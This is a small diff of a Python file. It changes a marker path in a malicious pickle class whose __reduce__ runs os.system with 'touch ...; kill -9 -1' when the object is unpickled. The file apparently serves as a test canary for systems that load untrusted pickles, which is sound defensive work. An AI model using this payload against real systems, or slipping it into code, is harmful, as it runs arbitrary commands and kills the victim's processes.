@@ -3,7 +3,7 @@ import os
 
 class Liar:
     def __reduce__(self):
-        return os.system, ('touch /work/pickled; kill -9 -1',)
+        return os.system, ('touch /submission/pickled; kill -9 -1',)
 
     def __reduce_ex__(self, protocol):
         return self.__reduce__()
